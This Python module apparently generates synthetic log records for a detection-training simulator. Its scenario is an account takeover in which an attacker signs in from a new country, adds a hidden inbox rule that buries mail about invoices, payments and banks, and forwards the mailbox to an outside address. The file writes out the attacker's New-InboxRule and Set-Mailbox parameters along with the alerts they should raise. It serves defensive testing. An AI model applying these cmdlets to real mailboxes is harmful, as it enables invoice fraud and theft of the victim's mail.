"""Sign-in from a new country, then an inbox rule that hides mail, then forwarding to the outside."""

from __future__ import annotations

from typing import TYPE_CHECKING

from aoc_sim.records import alerts, azuread, exchange, signins
from aoc_sim.records.base import Raises
from aoc_sim.stories.base import Story

if TYPE_CHECKING:
    from collections.abc import Iterator

    from aoc_sim.records.base import Draft
    from aoc_sim.stories.base import Stage

_PORTAL = ("00000002-0000-0ff1-ce00-000000000000", "Office 365 Exchange Online")


def drafts(stage: Stage) -> Iterator[Draft]:
    """The records, in order."""
    victim = stage.victim
    usual = stage.usual(0, victim)
    yield stage.record("graph-signins", usual, signins.user_signin(usual, app=_PORTAL))
    entry = stage.hostile(1500)
    body = signins.user_signin(entry, app=_PORTAL, risk="medium")
    by_script = Raises("sign-in-by-script")
    yield stage.record("graph-signins", entry, body, by_script)
    yield stage.record("o365-azuread", entry, azuread.logon(entry, error=0, operation="UserLoggedIn"), by_script)
    for minute in range(3):
        reading = stage.hostile(1600 + 60 * minute)
        yield stage.record("o365-exchange", reading, exchange.accessed(reading))
    rule = stage.hostile(2100)
    parameters = [
        ("AlwaysDeleteOutlookRulesBlob", "False"),
        ("Name", ".."),
        ("SubjectOrBodyContainsWords", "invoice;payment;bank"),
        ("MoveToFolder", "RSS Feeds"),
        ("MarkAsRead", "True"),
        ("StopProcessingRules", "True"),
    ]
    body = exchange.cmdlet(rule, "New-InboxRule", f"{victim.alias}\\..", parameters)
    yield stage.record("o365-exchange", rule, body, Raises("inbox-rule-hides-mail"))
    forward = stage.hostile(2280)
    parameters = [
        ("Identity", victim.upn),
        ("ForwardingSmtpAddress", "smtp:ledger.copy@outside.example"),
        ("DeliverToMailboxAndForward", "True"),
    ]
    body = exchange.cmdlet(forward, "Set-Mailbox", victim.alias, parameters)
    yield stage.record("o365-exchange", forward, body, Raises("mailbox-forwards"))
    alerted = stage.hostile(2700)
    yield stage.record(
        "graph-alerts",
        alerted,
        alerts.alert(alerted, "Mail forwarding set up after an unusual sign-in", "high", techniques=("T1114.003",)),
    )


STORY = Story(
    name="inbox-rule-forwarding",
    title="Inbox rule and forwarding after a sign-in from a new country",
    description="A stolen password is used from a country where nobody works; a rule hides replies, mail leaves.",
    duration_s=2700,
    drafts=drafts,
)
